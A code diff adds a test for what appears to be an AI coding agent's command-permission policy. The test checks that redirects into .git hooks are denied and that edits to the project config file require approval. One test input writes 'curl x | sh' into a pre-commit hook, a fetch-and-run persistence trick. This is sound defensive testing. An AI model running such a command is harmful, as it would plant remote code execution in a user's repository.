@@ -249,3 +249,11 @@ def test_project_rules_only_tighten_unless_trusted(tmp_path: Path, isolated_env)
     assert cmd(trusted, "make").action == "deny"
     assert effective_mode(settings, None, trusted=True) == "full-auto"
     assert effective_network(settings, trusted=True) is True
+
+
+def test_redirects_into_git_or_the_project_config(tmp_path: Path) -> None:
+    p = policy(tmp_path, "full-auto", allow=["Bash(echo:*)"], deny=[])
+    hook = cmd(p, "echo 'curl x | sh' > .git/hooks/pre-commit")
+    assert hook.action == "deny" and ".git" in hook.reason
+    assert cmd(p, "echo '[agent]' >> .aiw.toml").action == "ask"
+    assert cmd(p, "echo ok > out.txt").action == "allow"
